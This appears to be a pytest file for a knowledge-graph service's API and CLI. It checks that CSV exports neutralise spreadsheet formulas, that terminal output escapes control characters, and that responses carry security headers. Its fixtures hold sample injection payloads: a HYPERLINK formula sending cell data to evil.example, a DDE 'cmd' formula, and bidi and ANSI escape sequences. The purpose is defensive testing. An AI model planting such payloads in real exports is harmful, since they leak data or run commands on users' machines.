"""What leaves the service is safe to open: CSV without formula injection, CLI output without raw
control characters, pages and answers with the security headers."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from api.app import create_app
from kg.cli import app as cli
from kg.store import Store

from .conftest import AUTH, load_fixture, make_settings

pytestmark = pytest.mark.timeout(120)

#: Text a data steward may legitimately type, which a spreadsheet would run as a formula. (Funding source and
#: technology take only their schemes' codes and names now, so a formula there is refused at import.)
FORMULAS = {
    "name_zh": '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "name_en": "+cmd|' /C calc'!A0",
}
VILLAGE = "210123203200"
LABEL = "=1+2"  # a village label that would be computed


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> TestClient:
    store = load_fixture(Store.memory())
    store.update(  # a village whose (reference) label starts with "="
        "PREFIX rdfs: <http://www.w3.org/2000/01/rdf-schema#> "
        f"DELETE {{ GRAPH ?g {{ ?v rdfs:label ?l }} }} INSERT {{ GRAPH ?g {{ ?v rdfs:label '{LABEL}'@zh }} }} "
        f"WHERE {{ BIND(<https://w3id.org/dcpa/id/area/{VILLAGE}> AS ?v) GRAPH ?g {{ ?v rdfs:label ?l }} }}"
    )
    c = TestClient(create_app(make_settings(tmp_path_factory.mktemp("out")), store))
    intervention = {
        "id": "INT-FORMULA",
        "category": "C2",
        "provided_by": "L-210123",
        "target_areas": VILLAGE,
        "status": "S2",
        "budget": 50000,
        "source": "document",
        **FORMULAS,
    }
    r = c.post("/api/interventions", json=intervention, headers=AUTH)
    assert r.status_code == 201, r.text
    return c


def test_api_csv_neutralises_formulas_and_keeps_numbers(client: TestClient):
    rows = csv_rows(client.get("/api/interventions", params={"format": "csv"}).text)
    [row] = [r for r in rows if r["id"] == "INT-FORMULA"]
    assert row["label_zh"] == "'" + FORMULAS["name_zh"]
    assert row["label_en"] == "'" + FORMULAS["name_en"]
    assert row["budget"] == "50000"  # a number stays a number


def test_api_csv_by_accept_header_too(client: TestClient):
    text = client.get("/api/interventions", headers={"Accept": "text/csv"}).text
    assert "'" + FORMULAS["name_en"] in text
    assert "\n" + FORMULAS["name_en"] not in text and "," + FORMULAS["name_en"] not in text


def test_dashboard_csv_neutralises_formulas_and_keeps_numbers(client: TestClient):
    rows = csv_rows(client.get("/dashboard/data/area.csv", params={"area": VILLAGE[:9]}).text)
    [row] = [r for r in rows if r["区划代码"] == VILLAGE]
    assert row["区域"] == "'" + LABEL
    assert row["需求数"] == "2" and row["缺口占比"] == "0.5"


def test_security_headers_on_every_kind_of_answer(client: TestClient):
    for path in (
        "/dashboard",
        "/docs",
        "/ontology.html",
        f"/views/village/{VILLAGE}",
        "/sparql",
        "/api/stats",
        "/api/villages/999999999999",
        "/static/js/graph.js",
    ):
        r = client.get(path, headers={"Accept": "text/html"})
        h = r.headers
        assert "script-src 'self'" in h["content-security-policy"], path
        assert "'unsafe-inline'" not in h["content-security-policy"].split("script-src")[1].split(";")[0], path
        assert "frame-ancestors 'none'" in h["content-security-policy"], path
        assert h["x-content-type-options"] == "nosniff", path
        assert h["x-frame-options"] == "DENY", path
        assert h["referrer-policy"] == "no-referrer", path


# ---------------------------------------------------------------------------
# The CLI: CSV, tables and JSON of stored text
# ---------------------------------------------------------------------------

runner = CliRunner()
#: Stored text that would act on a terminal: a bidi override and a colour/clear-screen sequence.
TRICKY = "示例\u202e反转\x1b[2J\x1b[31m红字"


@pytest.fixture(scope="module")
def cli_store(disk_env: Path) -> Path:
    """The CLI's store with an intervention named like a formula and one named with hidden characters.

    Written around the importer (which refuses such text now): as data entered before, or loaded
    from elsewhere, would be.
    """
    s = Store.open(disk_env / "store", create=False)
    nt = (
        f'<https://w3id.org/dcpa/id/intervention/INT-1> <http://www.w3.org/2000/01/rdf-schema#label> "{TRICKY}"@zh .\n'
        "<https://w3id.org/dcpa/id/intervention/INT-2> <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> "
        "<https://w3id.org/dcpa/ontology#Intervention> .\n"
        "<https://w3id.org/dcpa/id/intervention/INT-2> <https://w3id.org/dcpa/ontology#targetsArea> "
        f"<https://w3id.org/dcpa/id/area/{VILLAGE}> .\n"
        f"<https://w3id.org/dcpa/id/intervention/INT-2> <http://www.w3.org/2000/01/rdf-schema#label> "
        f'"{FORMULAS["name_zh"].replace(chr(34), chr(92) + chr(34))}"@zh .\n'
    )
    s.add_graph("https://w3id.org/dcpa/graph/import/legacy", nt.replace("\x1b", "\\u001B").encode())
    s.close()
    del s
    return disk_env


def _query(fmt: str) -> str:
    res = runner.invoke(cli, ["query", "village_interventions", "--param", f"village={VILLAGE}", "--format", fmt])
    assert res.exit_code == 0, res.output
    return res.stdout


def test_cli_csv_neutralises_formulas(cli_store: Path):
    rows = csv_rows(_query("csv"))
    labels = {r["intervention_label"] for r in rows}
    assert "'" + FORMULAS["name_zh"] in labels
    assert FORMULAS["name_zh"] not in labels


def test_cli_table_shows_hidden_characters_as_escapes(cli_store: Path):
    out = _query("table")
    assert "示例\\u202e反转\\x1b[2J\\x1b[31m红字" in out
    assert "\u202e" not in out and "\x1b" not in out


def test_cli_json_escapes_them_losslessly(cli_store: Path):
    out = _query("json")
    assert "\u202e" not in out and "\x1b" not in out
    assert TRICKY in {r.get("intervention_label") for r in json.loads(out)}
